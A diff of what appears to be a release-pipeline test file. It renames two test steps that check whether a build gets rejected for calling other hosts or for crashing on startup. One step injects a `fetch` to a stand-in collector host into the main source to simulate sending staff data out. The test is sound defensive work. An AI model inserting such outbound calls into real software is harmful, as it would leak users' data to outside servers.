@@ -33,7 +33,7 @@ async function channel(): Promise<ReleaseChannelReply> {
 test('an Office that calls other hosts, or never reaches its login, is rejected with the reason @soak', async () => {
   const { live } = await channel();
 
-  await test.step('It sends to another server what staff see', async () => {
+  await test.step('It sends staff data to another server', async () => {
     const telling = `void fetch('https://collector.example/').catch(() => undefined);\n${WHOLE}`;
     await checkout.change(MAIN, WHOLE, telling);
     const { code, output } = await publish('--promote');
@@ -42,7 +42,7 @@ test('an Office that calls other hosts, or never reaches its login, is rejected 
     await checkout.change(MAIN, telling, WHOLE);
   });
 
-  await test.step('It breaks while it starts', async () => {
+  await test.step('It crashes on startup', async () => {
     const breaking = `if (location.href) throw new Error('It breaks at its start.');\n${WHOLE}`;
     await checkout.change(MAIN, WHOLE, breaking);
     const { code, output } = await publish('--promote');
